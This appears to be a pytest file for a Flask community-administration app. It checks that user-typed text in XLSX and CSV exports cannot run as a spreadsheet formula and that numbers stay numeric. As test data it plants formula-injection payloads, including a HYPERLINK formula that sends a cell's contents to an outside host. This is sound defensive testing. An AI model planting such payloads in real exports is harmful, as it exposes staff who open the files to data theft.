"""Spreadsheet formulas are neutralised: text typed by anyone (a resident's report title, a unit's
name) never runs as a formula when staff open an export in Excel or WPS; numbers stay numbers."""
from __future__ import annotations

import csv
import io
from http import HTTPStatus

from flask import url_for
from openpyxl import load_workbook

from core.db import db
from core.org import sheets
from core.tenancy import tenant_scope
from core.testing.factories import post

from ..plugins.grid.conftest import client_for, gw, report  # noqa: F401 (gw is a fixture)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://example.com/?"&A1,"点此查看")'


def export_urls(app, tenant: str) -> list[tuple[str, str]]:
    """(endpoint, url) of every sheet download: each rule with "export" or "template" in its path."""
    out = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or not ("export" in rule.rule or "template" in rule.rule) or ".json" in rule.rule:
            continue
        for fmt in ("xlsx", "csv") if "fmt" in rule.arguments else ("",):
            args = {"tenant": tenant, **({"fmt": fmt} if fmt else {})}
            if set(rule.arguments) - set(args):
                continue
            with app.test_request_context():
                out.append((rule.endpoint, url_for(rule.endpoint, **args) + "?reason=visit"))
    return out


def cells(resp) -> list:
    """Every cell of a downloaded sheet: openpyxl cells for XLSX, strings for CSV."""
    if resp.mimetype.endswith("spreadsheetml.sheet"):
        return [c for row in load_workbook(io.BytesIO(resp.data)).active.iter_rows() for c in row]
    return [v for row in csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))) for v in row]


def plant_formulas(app, gw, create_unit) -> None:
    """Names and a title that Excel would run, typed where the exports pick them up."""
    from core.org.models import OrgUnit
    report(app, gw, title=TITLE)
    building = create_unit(gw.street, gw.grid.id, "building", "@SUM(1,2)")
    home = create_unit(gw.street, building.id, "household", "-1+2")
    with app.app_context(), tenant_scope(gw.street.id):
        db.session.get(OrgUnit, gw.grid.id).name = "+1+2网格"
        db.session.get(OrgUnit, gw.community.id).name = "=1+2社区"
    plan = {"grid_id": gw.grid.id, "household_id": home.id, "care_type": "alone_elderly", "cadence_days": "14",
            "next_due": "2030-01-07"}
    assert post(client_for(app, gw.worker), f"/t/{gw.street.slug}/grid/visits", plan).status_code == HTTPStatus.SEE_OTHER


def test_no_cell_of_any_export_runs_as_a_formula(app, gw, create_unit, enable_plugin):
    for name in app.extensions["jiceng.plugins"].plugins:  # every module's exports, not only the grid's
        enable_plugin(gw.street, name)
    plant_formulas(app, gw, create_unit)
    staff = client_for(app, gw.admin)
    seen, texts = set(), []
    for endpoint, url in export_urls(app, gw.street.slug):
        resp = staff.get(url)
        if resp.status_code == HTTPStatus.NOT_FOUND and endpoint == "home.export":
            continue  # formats plugins contribute: none of the installed ones does
        assert resp.status_code == HTTPStatus.OK, url
        seen.add(endpoint)
        for cell in cells(resp):
            if isinstance(cell, str):  # CSV: the leading apostrophe OWASP advises
                assert not cell.startswith(FORMULA_START), f"{url}: {cell!r} would run as a formula"
                texts.append(cell)
            elif isinstance(cell.value, str):  # XLSX: a text cell, marked as typed with an apostrophe
                assert cell.data_type == "s", f"{url}: {cell.value!r} is written as a formula"
                assert cell.quotePrefix or not cell.value.startswith(FORMULA_START), f"{url}: {cell.value!r}"
                texts.append(cell.value)
    assert {"org.export", "org.import_template", "admin.import_users_template", "grid.export",
            "grid.export_visits"} <= seen
    assert TITLE in texts and "+1+2网格" in texts and "@SUM(1,2) -1+2" in texts and "'=1+2社区" in texts


def test_numbers_stay_numbers_and_text_that_looks_like_one_stays_text(app):
    with app.test_request_context():
        book = sheets.download("xlsx", "测试", ["数", "文本"], [[-5, "-5"], [2.5, "+86 138"]])
        table = sheets.download("csv", "测试", ["数", "文本"], [[-5, "-5"], [2.5, "+86 138"]])
    rows = list(load_workbook(io.BytesIO(book.data)).active.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == [-5, 2.5] and all(r[0].data_type == "n" for r in rows)
    assert [r[1].value for r in rows] == ["-5", "+86 138"] and all(r[1].quotePrefix for r in rows)
    assert list(csv.reader(io.StringIO(table.data.decode("utf-8-sig"))))[1:] == [["-5", "'-5"], ["2.5", "'+86 138"]]
